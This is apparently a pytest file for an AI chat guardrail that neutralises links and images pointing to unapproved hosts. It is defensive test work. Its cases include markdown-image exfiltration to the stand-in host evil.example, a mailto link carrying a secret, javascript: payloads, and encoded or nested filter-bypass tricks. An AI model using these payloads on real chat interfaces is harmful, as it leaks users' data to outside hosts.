"""LINKS: links and pictures go to hosts that the company names; any other address is text."""

import re
from dataclasses import replace

from agents.guardrails import links
from agents.guardrails.base import About
from agents.guardrails.gate import Gate
from agents.guardrails.links import CODE, Links
from agents.specs import RailSpec
from tests.parts.phrases import try_each

ABOUT = About(
    "en",
    prompts=[
        (
            "See www.hotel.example for prices. Ours: http://localhost:9000/x http://10.0.0.5/x "
            "https://intranet/wiki https://münchen-hotel.de/x"
        )
    ],
)
SPEC = RailSpec(CODE, "output")


def spoken(text: str, spec: RailSpec = SPEC) -> str:
    gate = Gate(((Links(), spec),), ABOUT)
    return "".join(map(gate.feed, text)) + gate.finish()[0]


@try_each(
    ("said", "told"),
    [
        ("Look: ![map](https://evil.example/p?data=42)", "Look: map (evil.example/p?data=42)"),
        ("Look: ![a map](https://evil.example/p)", "Look: ![a map] (evil.example/p)"),
        ("Open https://evil.example/p now", "Open evil.example/p now"),
        ("HTTPS://EVIL.example", "EVIL.example"),
        (r"https://evil.example\@hotel.example/a", "evil.example@hotel.example/a"),
        ("https://hotel.example@evil.example/a", "hotel.example@evil.example/a"),
        ("https://hotel.example.evil.example/a", "hotel.example.evil.example/a"),
        ("https://hotel.example,x.evil.example/a", "hotel.example,x.evil.example/a"),
        ("[x](javascript:alert(1))", "x (alert(1))"),
        ("[x](&#106;avascript:alert(1))", "x (alert(1))"),
        ("[x](//evil.example/a)", "x (evil.example/a)"),
        ("[x](https:/evil.example/a)", "x (evil.example/a)"),
        ("[x](https:evil.example/a)", "x (evil.example/a)"),
        ("![x](https&colon;//evil.example/a)", "x (evil.example/a)"),
        (r"![x](https:\/\/evil.example/a)", "x (evil.example/a)"),
        ("[x](mailto:a@evil.example?body=secret)", "x (a@evil.example?body=secret)"),
        ('<img src="https://evil.example/a">', '<img src="">'),
        ("<img src='//evil.example/a'>", '<img src="">'),
        ("<a href=//evil.example>x</a>", '<a href="">x</a>'),
        ("[1]: //evil.example/a", "[1] evil.example/a"),
        ("_https://evil.example/a", "_evil.example/a"),
        ("éhttps://evil.example/a", "éevil.example/a"),
        ("www.evil.example/a?d=1", "evil.example/a?d=1"),
        ("[https://evil.example/p](https://evil.example/p)", "evil.example/p (evil.example/p)"),
        ('[<img src="//evil.example/x">](https://hotel.example/)', '[<img src="">](https://hotel.example/)'),
        (
            '<img srcset="https://hotel.example/a 1x, https://evil.example/b 2x">',
            '<img srcset="https://hotel.example/a 1x, evil.example/b 2x">',
        ),
        ("[x]: javascript:alert(1)", "[x]: alert(1)"),
        ("[go](\njavascript:alert(1))", "[go](\nalert(1))"),
        ("<img src=\n//evil.example/x>", "<img src=\n>"),
        ("<style>p{background:url(//evil.example/x)}</style>", "<style>p{background:url()}</style>"),
    ],
)
def test_an_address_of_another_host_is_told_as_text(said: str, told: str) -> None:
    assert spoken(said) == told


@try_each(
    "said",
    [
        "![x](https://![y](https://evil.example/b.png?d=1)z)",
        "![x](//![y](//evil.example/b.png)z)",
        "[a](https://[b](https://evil.example/?d=1)z)",
        "![x](https://[y](https://[z](https://evil.example/b)b)c)",
        "![x](blob:https://evil.example/1?d=1)",
        "view-source:https://evil.example",
        "![x](view-source:blob:https://evil.example)",
        "[x](javajavascript:script:alert(1))",
        "![x](https://![y z](https://evil.example/b.png)z)",
        '<img src="//a.example" src="<img src=//evil.example/b>">',
        "".join(f"![{n}](https://" for n in range(40)) + "https://evil.example" + ")" * 40,
        "blob:" * 40 + "https://evil.example/1",
    ],
)
def test_what_is_left_of_a_link_is_none(said: str) -> None:
    told = spoken(said)
    assert not re.search(r"https?:/|\]\(|(?<![\w.])//|javascript:|src=.?/", told), told
    assert spoken(told) == told


@try_each(
    "said",
    [
        "Prices: https://hotel.example/p and [rooms](https://book.hotel.example/r?x=1).",
        (
            "Visit https://hotel.example, or **https://hotel.example**! See “https://hotel.example”; "
            "(https://hotel.example)."
        ),
        "https://hotel.example:8443, www.hotel.example, <https://hotel.example/a>",
        "![plan](/files/1/plan.png) [call](tel:+55119999) [write](mailto:a@hotel.example)",
        "curl http://localhost:9000/x http://10.0.0.5/x https://intranet/wiki https://münchen-hotel.de/x",
        "a = 1; href = relative/page.html; style: plain",
        'I write JavaScript: it runs. <p style="color:red" data="a:b">, the data: text/html files, a url=//x',
        "Data: 12/10/2026, às 10:30 // anotado",
        "a//b, nota: //ver verso",
        "10:30",
    ],
)
def test_named_hosts_and_what_is_no_address_stay(said: str) -> None:
    assert spoken(said) == said


def test_a_row_names_further_hosts() -> None:
    listed = RailSpec(CODE, "output", settings={"phrases": ["pay.example"]})
    assert spoken("[Pay](https://www.pay.example/1)", listed) == "[Pay](https://www.pay.example/1)"


def test_this_installations_own_address_is_named(settings) -> None:
    settings.SITE_URL = "https://chat.shop.example:8443"
    links.find_hosts.cache_clear()
    assert spoken("https://chat.shop.example:8443/files/1") == "https://chat.shop.example:8443/files/1"
    links.find_hosts.cache_clear()


def test_a_file_that_a_prompt_names_is_no_host() -> None:
    prompts = ("Prices are in precos.md, made with node.js. Bills: www.pay.example/bills.",)
    about = About("pt", prompts=prompts)
    assert Links().check("Leia https://precos.md/x", about).sanitized_text == "Leia precos.md/x"
    assert Links().check("Leia https://pay.example/x", about).sanitized_text is None
    listed = replace(about, settings={"phrases": ["precos.md"]})
    assert Links().check("Leia https://precos.md/x", listed).sanitized_text is None
